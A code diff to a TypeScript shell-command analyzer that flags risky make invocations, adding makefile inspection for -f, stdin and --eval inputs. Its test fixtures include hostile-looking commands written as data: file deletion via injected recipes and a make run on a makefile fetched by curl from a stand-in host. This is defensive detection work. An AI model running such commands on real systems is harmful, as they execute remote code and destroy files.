@@ -1,4 +1,5 @@
 import { definitionOf, isProjectKind, nearFile } from '../../declared.ts';
+import { makefileFindings } from '../../makefile.ts';
 import {
 	data,
 	exec,
@@ -38,7 +39,9 @@ export const makeTools: readonly Program[] = [
 			'make test SHELL=./x': ['exec make test SHELL=./x'],
 			'make -f other.mk test': ['exec make test', 'read other.mk'],
 			'make -C sub test': ['exec make test'],
-			"make --eval='x:;rm a' x": ['opaque', 'exec make x'],
+			"make --eval='x:;@rm a' x": ['opaque', 'exec make x', 'delete a'],
+			"printf 'all:\\n\\trm a\\n' | make -f -": ['exec make', 'delete a'],
+			'make -f <(curl https://e.example) x': ['exec make x', 'network e.example', 'opaque'],
 		},
 	}),
 	rows('just', {
@@ -153,6 +156,21 @@ function escaped(name: string): string {
 
 /** Declared targets, without overrides: `make test CC=./x` runs another program than the project wrote. */
 function make(it: Invocation): readonly Finding[] {
+	return [...called(it), ...givenMakefiles(it)];
+}
+
+/** A makefile that is typed, or fed: its recipes are judged like command lines. */
+function givenMakefiles(it: Invocation): readonly Finding[] {
+	const files = it.values('-f', '--file', '--makefile').flatMap((word): readonly Finding[] => {
+		const stream = word.text === '-' ? it.stdin : word.stream;
+		if (stream === undefined) return [];
+		if (stream.fetched) return [{ find: 'shell', source: { ...word, stream } }];
+		return stream.text === undefined ? [] : makefileFindings(stream.text);
+	});
+	return [...it.values('--eval', '-E').flatMap((word) => makefileFindings(word.text)), ...files];
+}
+
+function called(it: Invocation): readonly Finding[] {
 	const targets = it.operands.filter((word) => !/^\d+$/.test(word.text));
 	const script = [it.name === 'gmake' ? 'make' : it.name, ...targets.map((word) => word.text)].join(' ');
 	const scope = movedBy(it, '-C', '--directory');
